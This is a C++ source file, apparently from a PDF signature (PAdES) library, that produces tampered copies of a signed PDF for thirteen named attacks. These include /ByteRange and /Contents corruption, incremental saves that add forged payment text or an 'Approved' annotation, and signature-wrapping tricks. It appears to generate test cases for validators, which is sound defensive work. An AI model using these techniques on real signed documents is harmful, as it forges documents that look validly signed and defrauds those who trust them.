#include "Surgery.h"

#include "Pades.h"
#include "PdfText.h"

#include <array>
#include <limits>
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFPageDocumentHelper.hh>
#include <utility>

namespace orvela::pades {
using namespace text;

namespace {

constexpr std::array<std::pair<std::string_view, Attack>, 13> names = {{
    {"contents-empty", Attack::contentsEmpty},
    {"contents-null", Attack::contentsNull},
    {"contents-missing", Attack::contentsMissing},
    {"byterange-missing", Attack::byteRangeMissing},
    {"byterange-short", Attack::byteRangeShort},
    {"byterange-overlap", Attack::byteRangeOverlap},
    {"byterange-outside", Attack::byteRangeOutside},
    {"byterange-huge", Attack::byteRangeHuge},
    {"append-page-content", Attack::appendPageContent},
    {"append-catalogue", Attack::appendCatalogue},
    {"append-annotation", Attack::appendAnnotation},
    {"wrap-moved-part", Attack::wrapMovedPart},
    {"wrap-gap-objects", Attack::wrapGapObjects},
}};

/// Where the last signature's /ByteRange array and /Contents gap are.
struct SignatureText {
    std::size_t rangeStart = 0, rangeEnd = 0; ///< the "[...]" text
    long long b = 0, c = 0, d = 0;            ///< its numbers after the leading 0
};

SignatureText lastSignature(const std::string& pdf)
{
    SignatureText found;
    found.rangeStart = pdf.rfind("/ByteRange [");
    if (found.rangeStart == std::string::npos) {
        throw PadesError("the file has no signature to attack");
    }
    found.rangeStart += 11;
    found.rangeEnd = pdf.find(']', found.rangeStart) + 1;
    long long zero = 0;
    if (std::sscanf(pdf.c_str() + found.rangeStart, "[%lld %lld %lld %lld", &zero, &found.b,
                    &found.c, &found.d) != 4) {
        throw PadesError("the last /ByteRange is not four numbers");
    }
    return found;
}

/// `pdf` with [from, to) replaced by `text` padded with spaces, so no offset moves.
std::string overwrite(std::string pdf, std::size_t from, std::size_t to, const std::string& text)
{
    if (text.size() > to - from) {
        throw PadesError("surgery text does not fit");
    }
    pdf.replace(from, to - from, text + std::string(to - from - text.size(), ' '));
    return pdf;
}

std::string newRange(long long b, long long c, long long d)
{
    return "[0 " + std::to_string(b) + " " + std::to_string(c) + " " + std::to_string(d) + "]";
}

struct FirstPage {
    QPDF qpdf;
    QPDFObjectHandle page;
    explicit FirstPage(const std::string& pdf)
    {
        qpdf.setSuppressWarnings(true);
        qpdf.processMemoryFile("signed", pdf.data(), pdf.size());
        page = QPDFPageDocumentHelper(qpdf).getAllPages().at(0).getObjectHandle();
    }
};

std::string stream(const std::string& content)
{
    return "<< /Length " + std::to_string(content.size()) + " >>\nstream\n" + content +
           "\nendstream";
}

/// The objects a changed first page needs: a new content stream drawn after the old ones.
std::vector<RevisionObject> pageContentObjects(const std::string& pdf)
{
    FirstPage first(pdf);
    const int next = nextObjectNumber(pdf);
    QPDFObjectHandle contents = first.page.getKey("/Contents");
    std::string list = contents.isArray() ? itemsOf(contents, ref(next))
                                          : "[" + contents.unparse() + " " + ref(next) + "]";
    return {{next, stream("BT /F1 24 Tf 72 700 Td (Pay 1000000 to the attacker) Tj ET")},
            {first.page.getObjectID(), rewritten(first.page, {"/Contents"}, " /Contents " + list)}};
}

std::string appendAnnotation(const std::string& pdf)
{
    FirstPage first(pdf);
    const int next = nextObjectNumber(pdf);
    return appendRevision(
        pdf, {{next, "<< /Type /Annot /Subtype /FreeText /Rect [72 600 400 640] "
                     "/Contents (Approved) /DA (/Helv 12 Tf 0 g) >>"},
              {first.page.getObjectID(),
               rewritten(first.page, {"/Annots"},
                         " /Annots " + itemsOf(first.page.getKey("/Annots"), ref(next)))}});
}

std::string appendCatalogue(const std::string& pdf)
{
    QPDF qpdf;
    qpdf.setSuppressWarnings(true);
    qpdf.processMemoryFile("signed", pdf.data(), pdf.size());
    QPDFObjectHandle root = qpdf.getRoot();
    return appendRevision(
        pdf, {{root.getObjectID(),
               rewritten(root, {"/OpenAction"},
                         " /OpenAction << /S /URI /URI (https://example.invalid/) >>")}});
}

/// The hex string cut to the DER it holds (trailing zero pairs dropped).
std::string shortContents(const std::string& pdf, const SignatureText& at)
{
    std::string hex = pdf.substr(at.b + 1, at.c - at.b - 2);
    while (hex.size() >= 2 && hex.compare(hex.size() - 2, 2, "00") == 0) {
        hex.resize(hex.size() - 2);
    }
    return "<" + hex + ">";
}

/// A revision defining `objects` after `pdf`, re-based to start at offset `base` of another
/// file: its text without the closing startxref, and where its xref section begins.
struct Relocated {
    std::string text;
    std::size_t xref = 0;
};

Relocated relocate(const std::string& pdf, const std::vector<RevisionObject>& objects,
                   std::size_t base)
{
    const std::string revision = appendRevision(pdf, objects).substr(pdf.size());
    const long long shift = static_cast<long long>(base) - static_cast<long long>(pdf.size());
    const std::size_t xrefAt = revision.find("xref\n");
    const std::size_t trailerAt = revision.find("trailer");
    std::string table = revision.substr(xrefAt, trailerAt - xrefAt);
    for (std::size_t pos = 0; (pos = table.find(" 00000 n", pos)) != std::string::npos; pos += 8) {
        const long long offset = std::stoll(table.substr(pos - 10, 10)) + shift;
        char digits[11];
        std::snprintf(digits, sizeof digits, "%010lld", offset);
        table.replace(pos - 10, 10, digits);
    }
    const std::string trailer = revision.substr(trailerAt, revision.find("startxref") - trailerAt);
    return {revision.substr(0, xrefAt) + table + trailer, base + xrefAt};
}

std::string closing(std::size_t xref)
{
    return "startxref\n" + std::to_string(xref) + "\n%%EOF\n";
}

/// The signed tail moved to just after a shortened hex string, the /ByteRange pointed at it,
/// and a page-changing revision written after it, in the place the tail had.
std::string wrapMovedPart(const std::string& pdf, const SignatureText& at)
{
    const std::string tail = pdf.substr(at.c, at.d);
    const std::string contents = shortContents(pdf, at);
    const long long movedAt = at.b + static_cast<long long>(contents.size());
    std::string out = overwrite(pdf, at.rangeStart, at.rangeEnd, newRange(at.b, movedAt, at.d));
    out = out.substr(0, at.b) + contents + tail;
    // The moved tail's xref still lists every earlier object at its offset: chain to it.
    const std::size_t movedXref = out.rfind("\nxref") + 1;
    Relocated revision = relocate(pdf, pageContentObjects(pdf), out.size());
    const std::size_t prevAt = revision.text.rfind("/Prev ") + 6;
    const std::size_t prevEnd = revision.text.find(' ', prevAt);
    revision.text.replace(prevAt, prevEnd - prevAt, std::to_string(movedXref));
    // /Prev sits in the trailer, after the xref section, so the section's offset holds.
    return out + revision.text + closing(revision.xref);
}

/// A revision that changes the page, written inside the gap after a shortened hex string, and
/// a startxref after the signed tail that points into the gap.
std::string wrapGapObjects(const std::string& pdf, const SignatureText& at)
{
    // The signature dictionary is closed early so it still reads; the signed tail's own
    // closing bytes then sit between objects, where no reader that follows offsets looks.
    const std::string head = pdf.substr(0, at.b) + shortContents(pdf, at) + " >>\nendobj\n";
    const Relocated revision = relocate(pdf, pageContentObjects(pdf), head.size());
    const std::size_t gapEnd = static_cast<std::size_t>(at.c);
    if (head.size() + revision.text.size() > gapEnd) {
        throw PadesError("the gap is too small for the wrapped revision");
    }
    std::string out = head + revision.text;
    out += std::string(gapEnd - out.size(), ' ');
    return out + pdf.substr(gapEnd) + closing(revision.xref);
}

} // namespace

std::optional<Attack> attackNamed(std::string_view name)
{
    for (const auto& [key, attack] : names) {
        if (key == name) {
            return attack;
        }
    }
    return std::nullopt;
}

std::string applyAttack(const std::string& pdf, Attack attack)
{
    const SignatureText at = lastSignature(pdf);
    const std::size_t contentsKey = static_cast<std::size_t>(at.b) - 10;
    switch (attack) {
    case Attack::contentsEmpty:
        return overwrite(pdf, at.b, at.c, "<>");
    case Attack::contentsNull:
        return overwrite(pdf, at.b, at.c, "null");
    case Attack::contentsMissing:
        return overwrite(pdf, contentsKey, at.c, "");
    case Attack::byteRangeMissing:
        return overwrite(pdf, at.rangeStart - 11, at.rangeEnd, "");
    case Attack::byteRangeShort:
        return overwrite(pdf, at.rangeStart, at.rangeEnd,
                         "[0 " + std::to_string(at.b) + " " + std::to_string(at.c) + "]");
    case Attack::byteRangeOverlap:
        return overwrite(pdf, at.rangeStart, at.rangeEnd,
                         newRange(at.b, at.b - 16, at.d + (at.c - at.b) + 16));
    case Attack::byteRangeOutside:
        return overwrite(pdf, at.rangeStart, at.rangeEnd, newRange(at.b, at.c, at.d + 4096));
    case Attack::byteRangeHuge:
        return overwrite(pdf, at.rangeStart, at.rangeEnd,
                         newRange(std::numeric_limits<long long>::max(),
                                  std::numeric_limits<long long>::max(), 1));
    case Attack::appendPageContent:
        return appendRevision(pdf, pageContentObjects(pdf));
    case Attack::appendCatalogue:
        return appendCatalogue(pdf);
    case Attack::appendAnnotation:
        return appendAnnotation(pdf);
    case Attack::wrapMovedPart:
        return wrapMovedPart(pdf, at);
    case Attack::wrapGapObjects:
        return wrapGapObjects(pdf, at);
    }
    throw PadesError("unknown attack");
}

} // namespace orvela::pades
